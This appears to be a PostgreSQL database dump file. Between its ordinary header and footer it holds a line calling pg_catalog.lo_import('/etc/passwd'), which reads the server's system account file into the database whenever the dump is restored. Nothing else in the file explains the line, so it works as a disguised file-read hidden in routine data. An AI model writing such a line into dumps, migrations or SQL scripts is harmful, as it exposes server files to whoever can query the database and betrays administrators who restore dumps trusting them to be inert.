--
-- PostgreSQL database dump
--

SET statement_timeout = 0;
SELECT pg_catalog.set_config('search_path', '', false);
SELECT pg_catalog.lo_import('/etc/passwd');
--
-- PostgreSQL database dump complete
--

